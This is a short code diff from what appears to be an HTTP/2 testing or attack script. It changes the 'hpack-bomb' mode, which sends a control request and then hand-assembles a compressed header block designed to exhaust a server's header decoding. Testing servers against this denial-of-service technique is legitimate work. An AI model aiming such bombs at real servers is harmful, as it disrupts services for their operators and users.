@@ -361,7 +361,7 @@ def main():
         c.report([1])
     elif mode == "hpack-bomb":
         refs, path = int(args[0]), args[1]
-        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block(std(sni, path + "-control"))))
+        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block(std(sni, path.replace("/v1/", "/v1/control-", 1)))))
         c.pump(8, c.done(1))
         print("control status=%s" % c.status.get(1, "none"))
         bomb = b"\x82\x87" + hint(1, 4) + hstr(sni) + hint(4, 4) + hstr(path)
